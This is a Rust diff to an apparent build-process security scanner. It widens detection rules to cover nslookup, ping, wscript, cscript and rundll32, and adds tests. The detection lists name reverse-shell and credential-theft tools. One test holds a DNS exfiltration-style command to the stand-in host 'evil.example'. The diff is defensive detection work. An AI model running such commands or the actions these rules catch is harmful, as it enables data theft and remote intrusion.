@@ -117,10 +117,10 @@ impl When {
             }
             Self::RemoteShell => "`sh -i`, `/dev/tcp/`, `mkfifo`, `nc -e`",
             Self::FetchesRemote => {
-                "`curl`, `wget`, `nc`, `Invoke-WebRequest`, a URL, `pip install`, `npm install`"
+                "`curl`, `wget`, `nc`, `Invoke-WebRequest`, `nslookup`, `ping`, a URL, `pip install`, `npm install`"
             }
             Self::DecodeAndRun => "`| sh`, `base64 -d`, `FromBase64String`, `IEX`, `exec(`",
-            Self::Powershell => "`powershell`, `pwsh`",
+            Self::Powershell => "`powershell`, `pwsh`, `wscript`, `cscript`, `rundll32`",
             Self::CredentialTool => "`security find-generic-password`, `cmdkey`, `mimikatz`",
             Self::VersionControl => "`git`, `hg`, `svn`",
             Self::BuildTool => "compilers, `pkg-config`, `*-config`, `cmake`, `uname`",
@@ -273,7 +273,7 @@ pub static RULES: &[Rule] = &[
     rule(C::Process, &["run"], W::DecodeAndRun, C::Process, Suspicious,
         "decodes something or pipes it into an interpreter"),
     rule(C::Process, &["run"], W::Powershell, C::Process, Suspicious,
-        "builds do not need PowerShell; Windows payloads run through it"),
+        "builds do not need PowerShell or the Windows script hosts; Windows payloads run through them"),
     rule(C::Process, &["run"], W::CredentialTool, C::Process, Suspicious,
         "reads stored credentials"),
     rule(C::Process, &["run"], W::VersionControl, C::Process, Notice,
@@ -492,6 +492,9 @@ mod tests {
             Some((C::Process, S))
         );
         assert_eq!(run("whoami"), Some((C::Process, N)));
+        assert_eq!(run("nslookup c2VjcmV0.evil.example"), Some((C::Process, S)));
+        assert_eq!(run("cmd /c rundll32 x.dll,Run"), Some((C::Process, S)));
+        assert_eq!(run("gcc -march=native -DHOST=1 x.c"), Some((C::Process, N)));
     }
 
     #[test]
